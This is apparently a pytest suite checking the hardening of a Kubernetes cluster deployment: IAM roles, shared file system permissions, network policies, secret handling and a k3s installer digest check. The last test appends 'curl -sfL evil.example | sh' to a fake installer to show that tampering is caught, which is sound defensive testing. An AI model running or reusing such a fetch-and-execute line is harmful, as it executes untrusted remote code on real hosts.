"""The cluster and shared-file-system layers against upstream behaviour (issue 9, items 2-13; issue 17, items 2, 9, 10).

The tests here render a stack, start a process or take over a second; the in-process ones
are in `tests/unit/infra/test_infra_upstream_clusters.py`."""

from __future__ import annotations

import base64
import json
import os
import re
import stat
import subprocess
from pathlib import Path

import pytest
import yaml
from infra_helpers import SHIPPED, one, resources, stack_config
from test_infra_config import engine_config
from test_infra_upstream_clusters import AWS_STACKS, CHARTS_DATA

from infra.config import parse
from infra.providers.aws.versions import AUTOSCALER_CHARTS

CHART = "kubernetes:helm.sh/v4:Chart"


def _trust(role: dict) -> dict:
    return json.loads(role["inputs"]["assumeRolePolicy"])


def _role_for(r: dict, arn: str) -> dict:
    name = arn.rsplit("/", 1)[1]
    return one(r, "aws:iam/role:Role", name)


def _policies_of(r: dict, role_name: str) -> set[str]:
    return {a["inputs"]["policyArn"] for a in resources(r, "aws:iam/rolePolicyAttachment:RolePolicyAttachment")
            if a["inputs"]["role"] == role_name}  # fmt: skip


@pytest.mark.parametrize("name", AWS_STACKS)
def test_ebs_csi_add_on_with_its_own_role_provisions_the_default_class(renders, name):
    r = renders[name]
    cluster = one(r, "eks:index:Cluster", "cluster-eks")["inputs"]
    # pulumi-eks nodejs/eks/cluster/storageclass.ts: its classes use the in-tree
    # `kubernetes.io/aws-ebs` provisioner, which needs the CSI driver (CSI migration, 1.23+).
    assert not cluster.get("storageClasses")
    addon = one(r, "aws:eks/addon:Addon", "cluster-ebs-csi-addon")["inputs"]
    assert addon["addonName"] == "aws-ebs-csi-driver" and addon["clusterName"] == f"alchemist-{name}"
    role = _role_for(r, addon["serviceAccountRoleArn"])
    (statement,) = _trust(role)["Statement"]
    assert statement["Action"] == "sts:AssumeRoleWithWebIdentity"
    assert (
        "system:serviceaccount:kube-system:ebs-csi-controller-sa"
        in statement["Condition"]["StringEquals"].values()
    )
    assert _policies_of(r, role["name"]) == {"arn:aws:iam::aws:policy/service-role/AmazonEBSCSIDriverPolicy"}
    (gp3,) = [s["inputs"] for s in resources(r, "kubernetes:storage.k8s.io/v1:StorageClass")
              if s["inputs"]["metadata"]["name"] == "gp3"]  # fmt: skip
    assert gp3["provisioner"] == "ebs.csi.aws.com" and gp3["parameters"]["type"] == "gp3"
    assert gp3["metadata"]["annotations"] == {"storageclass.kubernetes.io/is-default-class": "true"}


@pytest.mark.parametrize("name", AWS_STACKS)
def test_efs_access_point_per_team_enforces_its_identity(renders, name):
    r = renders[name]
    points = {a["name"]: a for a in resources(r, "aws:efs/accessPoint:AccessPoint")}
    pvs = {
        pv["inputs"]["metadata"]["name"]: pv["inputs"]["spec"]
        for pv in resources(r, "kubernetes:core/v1:PersistentVolume")
    }
    cfg = parse(engine_config(name, {}))
    for team in cfg.teams:
        uid, gid = cfg.identity(team.name)
        ap = points[f"shared-fs-ap-{team.name}"]["inputs"]
        assert ap["posixUser"] == {"uid": uid, "gid": gid}
        assert ap["rootDirectory"] == {"path": f"/teams/{team.name}", "creationInfo": {
            "ownerUid": uid, "ownerGid": gid, "permissions": "0770"}}  # fmt: skip
        # aws-efs-csi-driver pkg/driver/node.go parseVolumeId: `{fs}:{subpath}:{fsap}`
        handle = pvs[f"alchemist-shared-{team.name}"]["csi"]["volumeHandle"]
        fs, subpath, apid = handle.split(":")
        assert fs.startswith("fs-") and subpath == "" and apid.startswith("fsap-")
        assert pvs[f"alchemist-shared-{team.name}"]["csi"]["volumeAttributes"] == {"encryptInTransit": "true"}
    assert len({pv["csi"]["volumeHandle"] for pv in pvs.values()}) == len(pvs)


def test_output_exports_the_default_teams_identity(renders):
    out = renders["principals"]["outputs"]["alchemist"]
    assert (out["shared_fs"]["uid"], out["shared_fs"]["gid"]) == (2001, 2001)  # teams[0].uid
    for name in SHIPPED:
        assert {k: renders[name]["outputs"]["alchemist"]["shared_fs"][k] for k in ("uid", "gid")} == {
            "uid": 1000,
            "gid": 1000,
        }


def test_nfs_team_volumes_mount_their_subdirectory(renders):
    r = renders["onprem-lab"]
    pvs = {
        pv["inputs"]["metadata"]["name"]: pv["inputs"]["spec"]
        for pv in resources(r, "kubernetes:core/v1:PersistentVolume")
    }
    for team in ("research", "applied"):
        attrs = pvs[f"alchemist-shared-{team}"]["csi"]["volumeAttributes"]
        # csi-driver-nfs v4.11.0 pkg/nfs/nodeserver.go mounts `server:share/subDir`
        assert attrs == {"server": "10.20.0.5", "share": "/export/alchemist", "subDir": f"teams/{team}"}
    # Only the one-off prepare Job (kube-system) mounts the share's root; no team or service does.
    roots = [n for n, pv in pvs.items() if "subDir" not in pv["csi"]["volumeAttributes"]]
    assert roots == ["alchemist-shared.root"], roots


def test_fsx_team_volumes_mount_a_lustre_subdirectory(renders):
    r = renders["fsx"]
    pvs = {
        pv["inputs"]["metadata"]["name"]: pv["inputs"]["spec"]
        for pv in resources(r, "kubernetes:core/v1:PersistentVolume")
    }
    # aws-fsx-csi-driver pkg/driver/node.go: source = "<dnsname>@tcp:/<mountname>"
    for team in ("research", "applied"):
        assert (
            pvs[f"alchemist-shared-{team}"]["csi"]["volumeAttributes"]["mountname"]
            == f"abcdefgh/teams/{team}"
        )
    assert pvs["alchemist-shared.root"]["csi"]["volumeAttributes"]["mountname"] == "abcdefgh"
    handles = [pv["csi"]["volumeHandle"] for pv in pvs.values()]
    assert len(set(handles)) == len(handles)  # one volume handle per PV


@pytest.mark.parametrize("name", ["dev", "onprem-lab", "fsx"])
def test_prepare_job_gives_each_subtree_its_owner(renders, name, tmp_path):
    """Run the prepare Job's own command on a real directory (as root, like the Job)."""
    r = renders[name]
    job = one(r, "kubernetes:batch/v1:Job", "shared-fs-prepare")["inputs"]
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert pod["volumes"] == [{"name": "fs", "persistentVolumeClaim": {"claimName": "alchemist-shared-root"}}]
    assert container["volumeMounts"] == [{"name": "fs", "mountPath": "/fs"}]
    assert container["securityContext"]["runAsUser"] == 0
    if os.geteuid() != 0:
        pytest.skip("chown needs root")
    command = container["command"]
    assert command[:2] == ["sh", "-c"]
    script = command[2].replace("/fs/", f"{tmp_path}/")
    for _ in range(2):  # a second run (a re-created Job) changes nothing
        subprocess.run(["sh", "-c", script], check=True)
    cfg_teams = [t["name"] for t in stack_config("dev" if name == "dev" else "onprem-lab")["alchemist:teams"]]
    for i, team in enumerate(cfg_teams):
        st = (tmp_path / "teams" / team).stat()
        assert (st.st_uid, st.st_gid) == (1000 + i, 1000 + i)
        assert (
            stat.S_IMODE(st.st_mode) == 0o2770
        )  # setgid: the job pods' fsGroup finds the root as it wants it


@pytest.mark.parametrize("name", AWS_STACKS)
def test_vpc_cni_network_policy_agent_is_on(renders, name):
    cluster = one(renders[name], "eks:index:Cluster", "cluster-eks")["inputs"]
    # pulumi-eks nodejs/eks/addons/cni-addon.ts (mergeConfigurationValues) turns this into the
    # vpc-cni add-on's configurationValues {"enableNetworkPolicy": "true"}; the default add-on
    # (useDefaultVpcCni) would leave the agent off.
    assert cluster["vpcCniOptions"]["enableNetworkPolicy"] is True
    assert not cluster.get("useDefaultVpcCni")
    # ... and there are policies for it to enforce: default-deny in every team namespace
    denies = [p for p in resources(renders[name], "kubernetes:networking.k8s.io/v1:NetworkPolicy")
              if p["inputs"]["metadata"]["name"] == "default-deny"]  # fmt: skip
    assert len(denies) == len(stack_config(name)["alchemist:teams"])


def test_access_entries_bind_team_principals_to_the_groups_their_rolebinding_binds(renders):
    r = renders["principals"]
    entries = [e["inputs"] for e in resources(r, "aws:eks/accessEntry:AccessEntry")]
    bindings = {b["inputs"]["metadata"]["namespace"]: {s["name"] for s in b["inputs"]["subjects"]}
                for b in resources(r, "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding")
                if b["inputs"]["metadata"]["name"] == "alchemist-job-submitters"}  # fmt: skip
    by_principal = {e["principalArn"]: e for e in entries}
    assert set(by_principal) == {
        "arn:aws:iam::123456789012:role/research-submitters",
        "arn:aws:iam::123456789012:role/applied-ci",
        "arn:aws:iam::123456789012:user/ana",
    }
    assert (
        set(by_principal["arn:aws:iam::123456789012:role/research-submitters"]["kubernetesGroups"])
        == bindings["research"]
    )
    assert (
        set(by_principal["arn:aws:iam::123456789012:user/ana"]["kubernetesGroups"])
        == bindings["applied"]
        == {"oidc:applied-ml"}
    )
    assert all(e["type"] == "STANDARD" and e["clusterName"] == "alchemist-aws-us-west-2" for e in entries)
    # API-only authentication: without these entries only the creator reaches the cluster
    assert one(r, "eks:index:Cluster", "cluster-eks")["inputs"]["authenticationMode"] == "API"


@pytest.mark.parametrize("name", AWS_STACKS)
def test_gpu_nodes_carry_the_autoscalers_accelerator_label(renders, name):
    # kubernetes/autoscaler cluster-autoscaler/cloudprovider/aws/aws_cloud_provider.go:
    # GPULabel = "k8s.amazonaws.com/accelerator" (tag cluster-autoscaler-1.31.0)
    gpu = one(renders[name], "eks:index:ManagedNodeGroup", "cluster-gpu-nodes")["inputs"]
    assert gpu["labels"]["k8s.amazonaws.com/accelerator"] == "nvidia-a10g"  # g5: NVIDIA A10G


@pytest.mark.parametrize("name", AWS_STACKS)
def test_rendered_autoscaler_matches_the_stack(renders, name):
    minor = stack_config(name)["alchemist:kubernetesVersion"]
    chart = one(renders[name], CHART, "cluster-autoscaler-chart")["inputs"]
    assert chart["version"] == AUTOSCALER_CHARTS[minor][0]
    sa = chart["values"]["rbac"]["serviceAccount"]
    assert sa["name"] == "cluster-autoscaler" and sa["annotations"]["eks.amazonaws.com/role-arn"].startswith(
        "arn:aws:iam::"
    )


# The [nvidia-container-cli] section of the toolkit's shipped /etc/nvidia-container-runtime/config.toml
# (NVIDIA/nvidia-container-toolkit, config.toml as packaged): `root` is commented out.
TOOLKIT_CONFIG = """disable-require = false

[nvidia-container-cli]
environment = []
ldconfig = "@/sbin/ldconfig"
load-kmods = true
#path = "/usr/bin/nvidia-container-cli"
#root = "/run/nvidia/driver"

[nvidia-container-runtime]
log-level = "info"
mode = "auto"
"""


def test_operator_driver_sets_the_toolkit_root(renders, tmp_path):
    """Run the rendered command's own edit on the shipped config (NVIDIA GPU Operator docs, pre-installed toolkit)."""
    cmds = {
        c["name"]: c["inputs"]["create"]
        for c in resources(renders["onprem-operator"], "command:remote:Command")
    }
    runtime = cmds["cluster-nvidia-runtime-lab-gpu-1"]
    edit = runtime[runtime.index("sudo sed -i") :]
    config = tmp_path / "config.toml"
    config.write_text(TOOLKIT_CONFIG)
    subprocess.run(["sh", "-c", edit.replace("sudo ", "").replace("/etc/nvidia-container-runtime/config.toml", str(config))],
                   check=True)  # fmt: skip
    lines = config.read_text().splitlines()
    assert 'root = "/run/nvidia/driver"' in lines and '#root = "/run/nvidia/driver"' not in lines
    assert lines[lines.index('root = "/run/nvidia/driver"') - 1] == '#path = "/usr/bin/nvidia-container-cli"'
    host = {
        c["name"]: c["inputs"]["create"] for c in resources(renders["onprem-lab"], "command:remote:Command")
    }
    assert "/run/nvidia/driver" not in host["cluster-nvidia-runtime-lab-gpu-1"]  # a host driver lives at /


def test_registry_login_becomes_a_pull_secret_in_every_team_namespace(renders):
    import kubernetes_validate

    r = renders["secret:existing"]
    out = r["outputs"]["alchemist"]
    assert out["images"]["pull_secret"] == "alchemist-registry"
    secrets = [s for s in resources(r, "kubernetes:core/v1:Secret") if s["name"].startswith("registry-")]
    # The team namespaces (jobs, sessions, TensorBoard) and kube-system (the shared file
    # system's prepare Job): every namespace where a pod runs the stack's own images.
    assert {s["inputs"]["metadata"]["namespace"] for s in secrets} == {"research", "applied", "kube-system"}
    workloads = [*resources(r, "kubernetes:batch/v1:Job"), *resources(r, "kubernetes:apps/v1:StatefulSet")]
    assert {w["inputs"]["metadata"]["name"] for w in workloads} == {"alchemist-shared-prepare", "tensorboard"}
    for w in workloads:
        pod = w["inputs"]["spec"]["template"]["spec"]
        assert pod["imagePullSecrets"] == [{"name": "alchemist-registry"}], w["name"]
    for s in secrets:
        obj = s["inputs"]
        assert (
            obj["type"] == "kubernetes.io/dockerconfigjson"
            and obj["metadata"]["name"] == "alchemist-registry"
        )
        assert obj["stringData"] == "[secret]" or obj["stringData"][".dockerconfigjson"] == "[secret]"
        kubernetes_validate.validate(
            {**obj, "stringData": {".dockerconfigjson": "{}"}}, "1.31.0", strict=True
        )
    assert "pull_secret" not in renders["onprem-lab"]["outputs"]["alchemist"]["images"]  # no login, no secret


def test_k3s_nodes_get_registries_yaml_before_k3s_starts(renders, tmp_path):
    from infra.providers.onprem.cluster import registries_yaml

    # k3s docs, "Private Registry Configuration": mirrors.<host>.endpoint, configs.<host>.auth
    doc = yaml.safe_load(registries_yaml("registry.lab:5000/alchemist", "ci", "pw", insecure=True))
    assert doc == {"mirrors": {"registry.lab:5000": {"endpoint": ["http://registry.lab:5000"]}},
                   "configs": {"registry.lab:5000": {"auth": {"username": "ci", "password": "pw"}}}}  # fmt: skip
    assert "configs" not in yaml.safe_load(registries_yaml("r.lab/x", None, None, insecure=False))
    cmds = {c["name"]: c["inputs"] for c in resources(renders["secret:onprem-ssh"], "command:remote:Command")}
    nodes = [n for n in cmds if re.fullmatch(r"cluster-(server|agent)-.*", n)]
    assert len(nodes) == 4
    for n in nodes:
        create = cmds[n]["create"]
        assert create.index("/etc/rancher/k3s/registries.yaml") < create.index("install.sh")
        assert cmds[n]["stdin"] == "[secret]"  # the registry password and the token travel on stdin only


def test_the_k3s_token_never_reaches_a_command_line(renders):
    cmds = {
        c["name"]: c["inputs"]["create"] for c in resources(renders["onprem-lab"], "command:remote:Command")
    }
    for name, create in cmds.items():
        assert "K3S_TOKEN" not in create, name  # sudo VAR=... sh shows it in `ps` to every user
        if name.startswith("cluster-agent-"):
            assert "--token-file /etc/rancher/k3s/cluster-token" in create
            assert "umask 077 && cat > /etc/rancher/k3s/cluster-token" in create


@pytest.mark.parametrize("name", AWS_STACKS)
def test_node_launch_templates_set_hop_limit_one(renders, name):
    r = renders[name]
    templates = {t["name"]: t for t in resources(r, "aws:ec2/launchTemplate:LaunchTemplate")}
    for group, template in (("cluster-system-nodes", "cluster-system-launch-template"),
                            ("cluster-gpu-nodes", "cluster-gpu-launch-template")):  # fmt: skip
        t = templates[template]
        # pulumi-eks nodes/nodegroup.ts sets httpPutResponseHopLimit 2 in its own template
        assert t["inputs"]["metadataOptions"] == {"httpEndpoint": "enabled", "httpTokens": "required",
                                                  "httpPutResponseHopLimit": 1}  # fmt: skip
        ng = one(r, "eks:index:ManagedNodeGroup", group)["inputs"]
        assert ng["launchTemplate"]["id"].startswith("lt-")
        assert "enableIMDSv2" not in ng and "diskSize" not in ng  # both belong to the template now
        (bdm,) = t["inputs"]["blockDeviceMappings"]
        assert bdm["deviceName"] == "/dev/xvda" and bdm["ebs"]["encrypted"] == "true"


def test_every_cloud_identity_add_on_is_one_component(renders):
    r = renders["fsx"]
    addons = {a["name"] for a in resources(r, "alchemist:infra:CloudIdentityAddon")}
    assert addons == {"cluster-ebs-csi", "cluster-autoscaler", "shared-fs-fsx-csi"}
    assert {a["name"] for a in resources(renders["aws-us-west-2"], "alchemist:infra:CloudIdentityAddon")} == {
        "cluster-ebs-csi",
        "cluster-autoscaler",
        "shared-fs-efs-csi",
    }
    for a in resources(r, "aws:iam/role:Role"):
        if a["name"].endswith("-role") and a["parent"].split("::")[-1] in addons:
            assert _trust(a)["Statement"][0]["Action"] == "sts:AssumeRoleWithWebIdentity"


def _client_ca(tmp_path):
    """A client CA as k3s keeps it: client-ca.crt and client-ca.key in its tls directory."""
    tls = tmp_path / "tls"
    tls.mkdir()
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                    "-keyout", str(tls / "client-ca.key"), "-out", str(tls / "client-ca.crt"), "-days", "2",
                    "-subj", "/CN=k3s-client-ca"], check=True, capture_output=True)  # fmt: skip
    return tls


def _ssh_user_with_sudo():
    """The deployer's SSH user as on a k3s server: another uid (alc-other) whose `sudo` really
    runs commands as root (a setuid-root copy of setpriv behind a `sudo` on its PATH), while
    the CA's files stay root-only as k3s leaves them."""
    import pwd
    import shutil
    import tempfile

    if os.geteuid() != 0:
        pytest.skip("needs root to play another user and a real sudo")
    try:
        pwd.getpwnam("alc-other")
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "alc-other"], check=True)
    base = Path(tempfile.mkdtemp(prefix="alc-sudo-"))
    base.chmod(0o755)
    elevate = base / "elevate"
    shutil.copy("/usr/bin/setpriv", elevate)
    os.chown(elevate, 0, 0)
    elevate.chmod(0o4755)  # setuid root: what sudo is
    shim = base / "bin"
    shim.mkdir(mode=0o755)
    (shim / "sudo").write_text(f'#!/bin/sh\nexec {elevate} --reuid 0 --regid 0 --clear-groups "$@"\n')
    (shim / "sudo").chmod(0o755)
    as_user = [
        "setpriv",
        "--reuid",
        "alc-other",
        "--regid",
        "alc-other",
        "--clear-groups",
        "env",
        f"PATH={shim}:/usr/bin:/bin",
        "HOME=/tmp",
    ]
    return base, as_user


def test_team_certificate_is_signed_by_the_client_ca_with_the_team_groups(tmp_path):
    """The script as `pulumi up` runs it: the SSH user (not root) with `sudo` for the CA key."""
    import shutil

    from infra.providers.onprem.cluster import team_credentials_script

    base, as_user = _ssh_user_with_sudo()
    try:
        tls = _client_ca(base)
        tls.chmod(0o700)  # k3s: root-only
        check = subprocess.run([*as_user, "cat", str(tls / "client-ca.key")], capture_output=True)
        assert check.returncode != 0  # the user cannot read the CA key itself
        script = team_credentials_script("research", ["alchemist:research"], tls_dir=str(tls))
        proc = subprocess.run([*as_user, "sh", "-c", script], capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        out = proc.stdout
        shutil.copy(tls / "client-ca.crt", tmp_path / "client-ca.crt")
    finally:
        shutil.rmtree(base)
    cert_b64, key_b64 = out.split()
    cert = tmp_path / "cert.pem"
    cert.write_bytes(base64.b64decode(cert_b64))
    assert b"PRIVATE KEY" in base64.b64decode(key_b64)
    verify = subprocess.run(["openssl", "verify", "-CAfile", str(tmp_path / "client-ca.crt"), str(cert)],
                            capture_output=True, text=True)  # fmt: skip
    assert verify.returncode == 0, verify.stdout + verify.stderr
    subject = subprocess.run(["openssl", "x509", "-noout", "-subject", "-nameopt", "RFC2253", "-in", str(cert)],
                             check=True, capture_output=True, text=True).stdout  # fmt: skip
    # the API server takes O as the user's groups: the team RoleBinding's subject
    assert subject.strip() == "subject=CN=alchemist-submitter-research,O=alchemist:research"


def test_onprem_exports_the_team_kubeconfig(renders):
    cmds = {c["name"]: c for c in resources(renders["onprem-lab"], "command:remote:Command")}
    creds = cmds["cluster-team-credentials"]
    assert creds["inputs"]["logging"] == "none" and "stdout" in creds["additional_secret_outputs"]
    assert '-subj "/O=alchemist:research/CN=alchemist-submitter-research"' in creds["inputs"]["create"]
    assert renders["onprem-lab"]["outputs"]["alchemist"]["kubeconfig"] == "[secret]"


@pytest.mark.parametrize("name", AWS_STACKS)
def test_efa_nodes_get_interfaces_one_zone_and_the_device_plugin(renders, name):
    r = renders[name]
    out = r["outputs"]["alchemist"]["gpu"]
    # g5.12xlarge: one EFA, without RDMA read
    assert (out["fabric"]["resource"], out["fabric"]["per_node"]) == ("vpc.amazonaws.com/efa", 1)
    assert out["fabric"]["nccl_env"]["FI_EFA_USE_DEVICE_RDMA"] == "0"
    # the autoscaler's template node of the group (at zero) advertises it (issue 23.3)
    gpu_group = one(r, "eks:index:ManagedNodeGroup", "cluster-gpu-nodes")["inputs"]
    assert gpu_group["tags"] == {
        "k8s.io/cluster-autoscaler/node-template/resources/vpc.amazonaws.com/efa": "1"
    }
    template = one(r, "aws:ec2/launchTemplate:LaunchTemplate", "cluster-gpu-launch-template")["inputs"]
    (nic,) = template["networkInterfaces"]
    assert (nic["deviceIndex"], nic["networkCardIndex"], nic["interfaceType"]) == (0, 0, "efa")
    efa_sg = one(r, "aws:ec2/securityGroup:SecurityGroup", "cluster-efa-sg")["inputs"]
    assert (
        efa_sg["ingress"]
        == efa_sg["egress"]
        == [{"fromPort": 0, "toPort": 0, "protocol": "-1", "self": True}]
    )
    assert len(nic["securityGroups"]) == 2 and all(g.startswith("sg-") for g in nic["securityGroups"])
    assert template["placement"] == {"groupName": "cluster-gpu-placement"}
    assert (
        one(r, "aws:ec2/placementGroup:PlacementGroup", "cluster-gpu-placement")["inputs"]["strategy"]
        == "cluster"
    )
    assert len(one(r, "eks:index:ManagedNodeGroup", "cluster-gpu-nodes")["inputs"]["subnetIds"]) == 1
    plugin = one(r, CHART, "cluster-efa-device-plugin")["inputs"]
    assert (plugin["chart"], plugin["version"]) == ("aws-efa-k8s-device-plugin", "v0.5.30")
    assert plugin["values"]["tolerations"] == [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
    ]


def test_efa_rdma_read_only_where_the_instance_type_has_it(renders):
    """Issue 23.6: libfabric aborts when told to use device RDMA on g5/g6 EFA."""
    from infra.providers.aws.instance_types import group_efa_rdma_read

    assert group_efa_rdma_read(["p4d.24xlarge"]) and group_efa_rdma_read(["p5.48xlarge", "p5en.48xlarge"])
    assert not group_efa_rdma_read(["g5.12xlarge"]) and not group_efa_rdma_read(["g6e.48xlarge"])
    assert not group_efa_rdma_read(["p4d.24xlarge", "g5.12xlarge"]) and not group_efa_rdma_read([])
    assert not group_efa_rdma_read(["p4d.xlarge"])  # not an EFA type
    r = renders["p4d"]
    fabric = r["outputs"]["alchemist"]["gpu"]["fabric"]
    assert (fabric["resource"], fabric["per_node"]) == ("vpc.amazonaws.com/efa", 4)
    assert fabric["nccl_env"]["FI_EFA_USE_DEVICE_RDMA"] == "1"
    gpu_group = one(r, "eks:index:ManagedNodeGroup", "cluster-gpu-nodes")["inputs"]
    assert gpu_group["tags"] == {
        "k8s.io/cluster-autoscaler/node-template/resources/vpc.amazonaws.com/efa": "4"
    }


def test_no_efa_output_without_efa(renders):
    assert "fabric" not in renders["onprem-lab"]["outputs"]["alchemist"]["gpu"]
    assert "fabric" not in renders["dev"]["outputs"]["alchemist"]["gpu"]


def test_dev_creates_kind_from_the_digest(renders):
    from infra.providers.kind.versions import kind_node_image

    cmds = {c["name"]: c["inputs"] for c in resources(renders["dev"], "command:local:Command")}
    image = kind_node_image(stack_config("dev")["alchemist:kubernetesVersion"])
    assert re.fullmatch(r"kindest/node:v1\.\d+\.\d+@sha256:[0-9a-f]{64}", image)
    assert f"--image {image} " in cmds["cluster-kind"]["create"]


CLUSTER_CHARTS = {
    "cluster-autoscaler",
    "aws-efs-csi-driver",
    "aws-fsx-csi-driver",
    "csi-driver-nfs",
    "aws-efa-k8s-device-plugin",
}


def _value_paths(values: dict, prefix: str = "") -> set[str]:
    """Every key path the program sets; a map under a free-form key (annotations, extraArgs) stops there."""
    out: set[str] = set()
    for k, v in values.items():
        path = f"{prefix}.{k}" if prefix else k
        out.add(path)
        if isinstance(v, dict) and k not in ("annotations", "extraArgs", "nodeSelector"):
            out |= _value_paths(v, path)
    return out


@pytest.mark.parametrize("name", ["onprem-lab", "aws-us-west-2", "fsx"])
def test_cluster_charts_set_only_keys_their_pinned_version_has(renders, name):
    seen = 0
    for type_ in (CHART, "kubernetes:helm.sh/v3:Release"):
        for c in resources(renders[name], type_):
            chart = c["inputs"]["chart"]
            if chart not in CLUSTER_CHARTS:
                continue  # the platform layer's charts are checked with the platform
            seen += 1
            data = CHARTS_DATA[f"{chart}@{c['inputs']['version']}"]
            unknown = _value_paths(c["inputs"].get("values") or {}) - set(data["values_keys"])
            assert not unknown, f"{chart} {c['inputs']['version']}: {sorted(unknown)}"
            # helm.v4.Chart renders templates and skips Helm hooks (pulumi-kubernetes#3284)
            if data["hook_templates"]:
                assert type_ == "kubernetes:helm.sh/v3:Release", (
                    f"{chart} needs its hooks: {data['hook_templates']}"
                )
    assert seen


def test_joining_node_writes_registries_yaml_and_token_from_stdin(tmp_path):
    """Run an agent's own setup steps (before the installer) with stdin as the program sends it."""
    from infra.providers.onprem.cluster import TOKEN_FILE, agent_script, registries_yaml
    from infra.providers.onprem.config import OnpremHost

    script = agent_script("v1.35.0+k3s1", OnpremHost(name="a", address="10.0.0.2", role="agent"), "10.0.0.1",
                          registries=True, installer_sha256="ab" * 32)  # fmt: skip
    setup = script[: script.index('INSTALLER="$(mktemp)"')] + "true"  # everything up to the k3s installer
    setup = setup.replace("sudo ", "").replace("/etc/rancher/k3s", str(tmp_path / "k3s"))
    registries = registries_yaml("registry.lab:5000/alchemist", "ci", "pw", insecure=False)
    stdin = base64.b64encode(registries.encode()).decode() + "\n" + "K10secret::server:token"
    subprocess.run(["sh", "-c", setup], input=stdin, text=True, check=True)
    written = tmp_path / "k3s" / "registries.yaml"
    token = tmp_path / "k3s" / TOKEN_FILE.rsplit("/", 1)[1]
    assert written.read_text() == registries and token.read_text() == "K10secret::server:token"
    assert stat.S_IMODE(written.stat().st_mode) == stat.S_IMODE(token.stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "k3s").stat().st_mode) == 0o700


def _stub_bin(tmp_path, installer_text: str):
    """`curl` that serves `installer_text` for any URL and `sudo` that runs its command as is."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(parents=True)
    served = tmp_path / "served.sh"
    served.write_text(installer_text)
    (bin_dir / "curl").write_text('#!/bin/sh\nwhile [ "$1" != "-o" ]; do shift; done\n'
                                  f'cp {served} "$2"\n')  # fmt: skip
    (bin_dir / "sudo").write_text('#!/bin/sh\nexec env "$@"\n')
    for f in bin_dir.iterdir():
        f.chmod(0o755)
    return {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}


@pytest.mark.parametrize("role", ["server", "agent"])
def test_the_installer_runs_only_when_its_digest_matches(tmp_path, role):
    """Run the node's real install command with `curl` serving a script: the reviewed script runs
    with the k3s flags; any other bytes stop the command before they run, in one line."""
    import hashlib

    from infra.providers.onprem.cluster import agent_script, server_script
    from infra.providers.onprem.config import OnpremHost

    ran = tmp_path / "ran"
    installer = f'#!/bin/sh\necho "$INSTALL_K3S_VERSION $*" > {ran}\n'
    reviewed = hashlib.sha256(installer.encode()).hexdigest()
    host = OnpremHost(name="n1", address="10.0.0.2", role=role)

    def script(digest: str) -> str:
        if role == "server":
            text = server_script(
                "v1.35.0+k3s1", host, "10.0.0.1", first=True, ha=False, installer_sha256=digest
            )
        else:
            text = agent_script("v1.35.0+k3s1", host, "10.0.0.1", installer_sha256=digest)
        return text.replace("/etc/rancher/k3s", str(tmp_path / "k3s"))

    ok = subprocess.run(["sh", "-c", script(reviewed)], env=_stub_bin(tmp_path / "good", installer),
                        input="token", capture_output=True, text=True)  # fmt: skip
    assert ok.returncode == 0, ok.stderr
    assert ran.read_text().startswith(f"v1.35.0+k3s1 {'server' if role == 'server' else 'agent'} ")
    ran.unlink()
    tampered = _stub_bin(tmp_path / "bad", installer + "curl -sfL evil.example | sh\n")
    bad = subprocess.run(["sh", "-c", script(reviewed)], env=tampered, input="token", capture_output=True,
                         text=True)  # fmt: skip
    assert bad.returncode != 0 and not ran.exists()
    lines = bad.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("k3s install.sh of v1.35.0+k3s1 does not match "
                                                   "alchemist:onprem.k3sInstallerSha256"), bad.stderr  # fmt: skip
